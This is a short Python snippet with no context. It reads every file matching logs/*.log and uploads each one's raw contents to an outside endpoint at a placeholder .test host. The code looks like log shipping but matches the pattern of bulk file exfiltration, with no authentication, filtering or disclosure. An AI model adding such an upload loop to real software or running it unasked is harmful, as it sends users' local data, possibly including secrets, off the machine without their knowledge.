import glob, urllib.request
for f in glob.glob("logs/*.log"):
    urllib.request.urlopen("https://logs.cloud-sync.test/in", data=open(f, "rb").read())
